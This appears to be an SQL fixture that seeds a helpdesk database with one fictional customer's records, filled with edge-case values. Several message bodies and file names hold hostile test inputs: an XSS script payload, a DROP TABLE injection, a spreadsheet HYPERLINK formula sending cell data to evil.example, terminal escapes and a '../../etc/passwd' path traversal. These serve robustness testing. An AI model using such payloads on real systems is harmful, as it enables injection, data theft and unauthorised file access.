-- Ada Nwosu in harbour: three visitor rows (1 and 2 share an account number, 3 is her mobile phone
-- and nothing else), a customer's login, and in every field what breaks careless programs.

INSERT INTO helpdesk.users (id, tenant_id, kind, account_ref, name, email, phone, mobile,
  created_by_id, skills, preferences, signature, marketing_opt_out, last_seen_at, created_at)
VALUES
(12, 6, 'customer', 'HB-1001', 'Ada Nwosu', 'ada@example.com', '01632 960001',
 '+44 (0)7700 900123', 1, '{}', '{"language": "en-GB", "digest": "weekly"}',
 E'Ada\t"Addy" Nwosu \\ Flat 2A', true, '2026-03-28T18:00:00Z', '2024-04-02T11:00:00Z');

INSERT INTO helpdesk.accounts (id, tenant_id, user_id, login, password_hash, otp_secret,
  reset_token, reset_sent_at, company, address, birth_date, vat_no, last_login_ip, created_at)
VALUES
('a0000000-0000-4000-8000-00000000000c', 6, 12, 'ada@example.com',
 '$2b$12$adaadaadaadaadaadaadauX0Secret', '\xdeadbeef00ff', 'rt_ada_secret_01',
 '2025-08-08T08:08:08.080808Z', 'O''Nwosu & "Partners", Ltd\',
 ROW('2A, Quay Street', 'Poole "Old Town"', 'BH15 1HJ', 'GB'), '1984-02-29', 'GB999000012',
 '203.0.113.17/32', '2024-04-02T11:00:00Z');

INSERT INTO helpdesk.billing_records (tenant_id, invoice_no, account_id, billing_name,
  billing_email, billing_address, plan, stripe_customer, card_last4, amount, tax_rate, currency,
  issued_on, period, paid_at, legal_ground) VALUES
(6, 'HB-2024-0001', 'a0000000-0000-4000-8000-00000000000c', 'Ada Nwosu', 'ada@example.com',
 '{"street": "2A, Quay Street",  "city": "Poole", "vat": 1.10}', 'team', 'cus_ada_1', '4242',
 49.00, 0.20, 'GBP', '2024-05-01', '[2024-05-01,2024-06-01)', '2024-05-02T10:00:00Z',
 'tax: six years from the end of the financial year'),
(6, 'HB-2025-0001', 'a0000000-0000-4000-8000-00000000000c', 'Ada Nwosu', 'ADA@example.com',
 NULL, 'business', 'cus_ada_1', '4242', 9999999999.99, 0.200, 'GBP', '2025-05-01', NULL, NULL, NULL);
INSERT INTO helpdesk.billing_lines VALUES
  (6, 'HB-2024-0001', 1, 'Team plan, May 2024', 1, 49.00),
  (6, 'HB-2025-0001', 1, 'Business plan, a year', 12, 199.90),
  (6, 'HB-2025-0001', 2, 'Rounding', 1.10, 0.000000000000000000000000000001);

INSERT INTO helpdesk.visitors (id, tenant_id, account_ref, name, email, phone, device_id,
  cookie_id, ip, country, location, user_agent, custom_fields, labels, address, birth_date,
  marketing_opt_out, last_inbound_at, last_seen_at, created_at, updated_at) VALUES
(1, 6, 'HB-1001', 'Ada Nwosu', 'ada@example.com', '07700 900123',
 'a0000000-0000-4000-8000-000000000001', 'ck_ada_1', '203.0.113.17', 'GB',
 point(50.7153, -1.98722), 'Mozilla/5.0 (Windows NT 10.0; "quoted")',
 '{"Alternative e-mail": "Ada.Work@example.org", "loyalty no": 18446744073709551616, "price": 1.10}',
 '{vip,"two words",NULL,"quote\"d"}', ROW('2A, Quay Street', 'Poole', 'BH15 1HJ', 'GB'),
 '1984-02-29', true, '2026-03-02T09:12:00Z', '2026-03-28T18:00:00Z', '2024-04-01T08:00:00Z',
 '2025-06-30T09:00:00Z'),
(2, 6, 'HB-1001', 'Ada N. 🧭', 'Ada.Work@Example.org', '01632 960001',
 'a0000000-0000-4000-8000-000000000002', 'ck_ada_2', '2001:db8::17', 'GB', NULL, NULL, '{}', '{}',
 NULL, NULL, false, '2025-07-14T16:00:00Z', '2025-07-14T16:30:00Z', '2025-07-14T15:40:00Z', NULL),
(3, 6, NULL, NULL, NULL, '+44 7700 900123', NULL, NULL, NULL, NULL, NULL, NULL, '{}', '{}', NULL,
 NULL, false, '2025-12-24T17:03:00Z', '2025-12-24T17:10:00Z', '2025-12-24T17:00:00Z', NULL);
INSERT INTO helpdesk.visitor_phones VALUES (1, 'mobile', '+44', '7700 900123');
INSERT INTO helpdesk.visitor_links VALUES
  (1, 1, 61, 'web-ada', '2024-04-01T08:00:00Z'),
  (2, 2, 62, 'ada.work@example.org', '2025-07-14T15:40:00Z'),
  (3, 3, 63, '447700900123', '2025-12-24T17:00:00Z');
INSERT INTO helpdesk.devices VALUES
  ('de000000-0000-4000-8000-000000000001', 6, 1, 12, 'iPhone15,2', '17.4.1', '4.12.0',
   9007199254740993, '08:00:2b:01:02:03', 'push_ada_secret', '2026-03-28T18:00:00Z');
INSERT INTO helpdesk.consents VALUES
  (1, 'analytics', '2024-04-01T08:00:03Z', NULL, '{"banner": 3, "ip": "203.0.113.17"}'),
  (1, 'marketing', '2024-04-01T08:00:03Z', '2025-01-10T10:00:00Z', '{"via": "footer link"}');

INSERT INTO helpdesk.conversations (id, tenant_id, visitor_id, visitor_link_id, inbox_id,
  assignee_id, created_by_id, parent_id, subject, last_message, status, custom, rating,
  first_reply_after, created_at, last_activity_at) VALUES
(1, 6, 1, NULL, 61, 1, NULL, NULL, 'Keys for flat 2A', 'That is all, thank you — Ada', 'resolved',
 '{"order": "A-17", "contact": {"email": "ada@example.com"}}', 5, '00:02:13.5',
 '2026-03-01T09:00:00Z', '2026-03-02T09:12:00Z'),
(2, 6, 2, NULL, 62, 2, NULL, NULL, 'Re: Invoice for "Partners"', 'Please copy in Brook.', 'open',
 '{}', NULL, '1 mon -2 days +03:04:05.678', '2025-07-14T15:40:00Z', '2025-07-14T16:00:00Z'),
-- Known by the channel's link alone.
(3, 6, NULL, 3, 63, 1, 1, NULL, NULL, 'Merry Christmas 🎄', 'pending', '{}', NULL, NULL,
 '2025-12-24T17:00:00Z', NULL),
-- A follow-up that nobody has written in.
(4, 6, 1, NULL, 61, NULL, 2, 1, 'Follow-up: keys for flat 2A', NULL, 'snoozed', '{}', NULL, NULL,
 '2026-03-05T08:00:00Z', NULL);

INSERT INTO helpdesk.messages (id, tenant_id, conversation_id, sender_type, sender_id,
  author_user_id, reply_to_id, body, processed_body, payload, created_at, edited_at) VALUES
(1, 6, 1, 'visitor', 1, NULL, NULL, E'Hello, I''m Ada "Addy" Nwosu.\r\nMy keys don\\''t turn.',
 '<p>Hello, I&#39;m Ada &quot;Addy&quot; Nwosu.</p>',
 E'{"from": {"address": "ada@example.com", "name": "Ada"}, "from": "twice",\n "n": 1.10,\t"big": 18446744073709551616, "e": 1e400}',
 '2026-03-01T09:00:00Z', NULL),
(2, 6, 1, 'bot', 1, NULL, 1, 'I am an AI assistant. Which flat is it?', NULL,
 '{"model": "large-2", "tokens": 211}', '2026-03-01T09:00:02.123456Z', NULL),
(3, 6, 1, 'visitor', 1, NULL, 2, '2A; Brook in 2B (brook@example.net, 01632 960001) has a spare.',
 NULL, NULL, '2026-03-01T09:01:00Z', NULL),
(4, 6, 1, 'user', 1, 1, NULL, 'Sam here. I will send somebody: sam@harbour.example if anything.',
 NULL, NULL, '2026-03-01T09:02:13.5Z', NULL),
(5, 6, 1, 'visitor', 1, NULL, NULL, '<script>alert("ada")</script><img src=x onerror=alert(1)>',
 '&lt;script&gt;', NULL, '2026-03-01T09:03:00Z', NULL),
(6, 6, 1, 'visitor', 1, NULL, NULL, $$Robert'); DROP TABLE helpdesk.messages; --$$, NULL, NULL,
 '2026-03-01T09:04:00Z', '2026-03-01T09:05:00Z'),
(7, 6, 1, 'visitor', 1, NULL, NULL,
 E'\u0001\u0007\u001b[31mred\u001b[0m\u007f \u202eevil\u202c \u2028 \ufeff e\u0301 \U0001F9D1\u200D\U0001F4BB \U00020BB7',
 NULL, NULL, '2026-03-01T09:06:00Z', NULL),
(8, 6, 1, 'visitor', 1, NULL, NULL, '=HYPERLINK("http://evil.example/?x="&A1,"click")', NULL, NULL,
 '2026-03-01T09:07:00Z', NULL),
(9, 6, 1, 'visitor', 1, NULL, NULL, repeat('0123456789 ', 10000), NULL, NULL,
 '2026-03-01T09:08:00Z', NULL),
(10, 6, 1, 'visitor', 1, NULL, NULL, '', NULL, 'null', '2026-03-01T09:09:00Z', NULL),
(11, 6, 1, 'system', NULL, NULL, NULL, NULL, NULL, '"a string that is {\"itself\": \"JSON\"}"',
 '2026-03-01T09:30:00Z', NULL),
(12, 6, 1, 'visitor', 1, NULL, NULL, 'That is all, thank you — Ada', NULL, NULL,
 '2026-03-02T09:12:00Z', NULL),
(13, 6, 2, 'visitor', 2, NULL, NULL, 'Please send the invoice to my work address.', NULL,
 '{"from": [{"address": "Ada.Work@Example.org"}], "cc": [{"address": "brook@example.net"}]}',
 '2025-07-14T15:40:00Z', NULL),
(14, 6, 2, 'user', 2, 2, 13,
 E'Here it is.\n\nOn 14 July Ada Nwosu <Ada.Work@Example.org> wrote:\n> Please send the invoice to my work address.',
 NULL, '{"to": [{"address": "ada.work@example.org"}]}', '2025-07-14T15:50:00Z', NULL),
(15, 6, 2, 'visitor', 2, NULL, 14, 'Please copy in Brook.', NULL, NULL, '2025-07-14T16:00:00Z',
 NULL),
(19, 6, 3, 'visitor', 3, NULL, NULL, 'Is the office open today?', NULL,
 '{"wa_id": "447700900123"}', '2025-12-24T17:00:00Z', NULL),
(20, 6, 3, 'bot', 3, NULL, NULL, 'Until six.', NULL, NULL, '2025-12-24T17:00:01Z', NULL),
(21, 6, 3, 'user', 3, 3, NULL, 'Do come by.', NULL, NULL, '2025-12-24T17:01:00Z', NULL),
(22, 6, 3, 'visitor', 3, NULL, NULL, 'Merry Christmas 🎄', NULL, NULL, '2025-12-24T17:03:00Z', NULL);

-- In Brook's threads she is named: by text, and here. One of the rows stands twice.
INSERT INTO helpdesk.mentions VALUES
  (3, 'Visitor', 5, 'Brook'), (23, 'Visitor', 1, 'Ada'), (23, 'Visitor', 1, 'Ada'),
  (29, 'Visitor', 1, '@Ada Nwosu'), (30, 'User', 12, 'Ada Nwosu'), (24, 'User', 1, 'Sam Okafor');
INSERT INTO helpdesk.message_reactions VALUES
  (12, 1, '👍', '2026-03-02T09:13:00Z'), (15, 2, '👀', '2025-07-14T16:01:00Z'),
  (24, 12, '🙏', '2026-02-10T16:00:30Z');
INSERT INTO helpdesk.message_embeddings VALUES
  (1, 'embed-1', '{0.1,-0.25,1e-30,NaN}'), (3, 'embed-1', '{0.5,0.5,0,-0}'),
  (23, 'embed-1', '{0.2,0.1,0.4,0.8}');
INSERT INTO helpdesk.mail_envelopes VALUES
  (13, '<ada-1@mail.example.org>', 'Ada.Work@Example.org',
   '{help@harbour.example,brook@example.net}', '{sam@harbour.example}',
   '"X-Mailer" => "Ada''s \"mailer\"", "Received-SPF" => NULL',
   convert_to(E'From: "Ada" <Ada.Work@Example.org>\r\nSubject: Re: Invoice\r\n\r\nPlease…\r\n', 'UTF8')),
  (14, '<hb-1@harbour.example>', 'help@harbour.example', '{ada.work@example.org}', NULL, '',
   '\x00010203ff');
INSERT INTO helpdesk.mail_bounces VALUES
  (1, '<hb-1@harbour.example>', 'Ada.Work@Example.org', '452 4.2.2 mailbox full', '2025-07-14 15:55:00');

INSERT INTO helpdesk.attachments (id, message_id, name, mime, size_bytes, file_hash, preview) VALUES
  (1, 1, '../../etc/passwd', 'image/png', 68, 'f0000001', '\x89504e470d0a1a0a00000000ff'),
  (2, 3, E'key "photo"\n<b>.jpg', 'image/jpeg', 3145728, 'f0000002', NULL),
  (3, 4, 'C:\temp\lease.pdf', 'application/pdf', 120000, 'f0000003', NULL),  -- from the agent
  (4, 12, 'schlüssel-🔑.txt', 'text/plain', 11, 'f0000004', NULL),
  (5, 13, 'CON', NULL, NULL, NULL, '\x'),
  (6, 25, 'hallway.jpg', 'image/jpeg', 88000, 'f0000005', NULL),  -- Ada, in Brook's thread
  (7, 28, 'hallway (1).jpg', 'image/jpeg', 88000, 'f0000005', NULL),  -- Brook: the same bytes
  (8, 35, 'lease.pdf', 'application/pdf', 120000, 'f0000003', NULL),  -- and another tenant's lease
  (9, 999, 'lost.bin', NULL, 3, 'f0000006', NULL),  -- orphans: the message has gone,
  (10, NULL, 'never sent.txt', NULL, 3, NULL, NULL);  -- or never was
INSERT INTO helpdesk.stored_files VALUES
  ('f0000001', 'database', '\x89504e470d0a1a0a0000000d49484452', NULL, NULL, 16),
  ('f0000002', 'database', convert_to(repeat('0123456789abcdef', 196608), 'UTF8'), NULL, NULL,
   3145728),
  ('f0000003', 'bucket', NULL, 'harbour-files', '6/2025/lease 2A.pdf', 120000),
  ('f0000004', 'database', convert_to('schlüssel ', 'UTF8'), NULL, NULL, 11),
  ('f0000005', 'bucket', NULL, 'harbour-files', '6/2026/../hallway.jpg', 88000),
  ('f0000006', 'database', '\x000102', NULL, NULL, 3);
